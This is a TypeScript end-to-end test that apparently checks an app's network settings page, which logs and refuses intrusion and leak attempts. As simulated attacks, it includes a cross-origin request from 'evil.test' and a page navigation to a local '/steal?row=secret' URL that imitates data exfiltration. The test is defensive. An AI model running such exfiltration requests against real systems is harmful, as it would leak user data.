import { connect } from 'node:net'
import { join } from 'node:path'
import type { Page } from 'playwright-core'
import { expect, test } from 'vitest'
import { settings } from '../../src-renderer/locales/en/settings.ts'
import { lookWellOnce } from './look.ts'
import { tempFolder } from './loom.ts'
import { type HostName, hosts, openApp } from './open-app.ts'

const words = settings.network

type Stranger = { act: (page: Page) => Promise<unknown>; target: string; what: string; verdict: string }

/** Somebody who tries to get in, or a page that tries to get out. */
const strangers: Record<HostName, Stranger> = {
  browser: {
    act: (page) =>
      fetch(new URL('/api/app.info', page.url()), { method: 'POST', headers: { origin: 'https://evil.test' } }),
    target: 'https://evil.test',
    what: words.log.who.browser,
    verdict: words.log.refused['foreign-site'],
  },
  electron: {
    act: (page) =>
      page
        .evaluate(() => {
          window.location.href = 'http://127.0.0.1:9/steal?row=secret'
        })
        .catch(() => {}), // The page that asked may be gone before it is answered.
    target: 'http://127.0.0.1:9',
    what: words.log.who.window,
    verdict: words.log.refused['not-needed'],
  },
}

const sendNoise = (port: number) =>
  new Promise<void>((settle) => {
    const socket = connect(port, '127.0.0.1', () => socket.end('no request at all\r\n\r\n'))
    socket.on('error', () => undefined).on('close', () => settle())
    socket.resume()
  })

test.each(hosts)(
  'in the host “%s”, the page of the network shows what was counted and who was refused',
  async (host) => {
    const { page, problems } = await openApp(host, join(tempFolder(), 'library'))
    await page.getByRole('heading', { level: 1, name: 'Home' }).waitFor()
    const { act, target, what, verdict } = strangers[host]
    await act(page)
    await page.evaluate(() => window.location.replace('#/settings?section=network'))
    const heading = page.getByRole('heading', { name: /^connections to other computers since/ })
    await heading.waitFor()
    const row = page.getByRole('row').filter({ hasText: target })
    await row.waitFor()
    const text = await row.textContent()
    for (const part of [what, verdict, target]) expect(text).toContain(part)
    expect(text).not.toContain('secret')
    await page.getByText(words.log.guard).waitFor()
    if (host === 'browser') {
      await sendNoise(Number(new URL(page.url()).port))
      const longest = page.getByRole('cell', { name: words.log.refused['no-request'] })
      await longest.waitFor({ timeout: 10_000 })
      for (const width of [1280, 1920]) {
        await page.setViewportSize({ width, height: 800 })
        // As of a wider face than this computer's.
        await longest.evaluate((cell) => cell.setAttribute('style', 'letter-spacing: 0.1em'))
        expect(await longest.evaluate((cell) => cell.scrollWidth - cell.clientWidth)).toBe(0)
      }
      await page.setViewportSize({ width: 1280, height: 800 })
    }
    expect(await page.locator('section', { has: heading }).locator('b').first().textContent()).toBe('0')
    await lookWellOnce(host, page, 'settings-network-refused')
    expect(problems).toEqual([])
  },
)
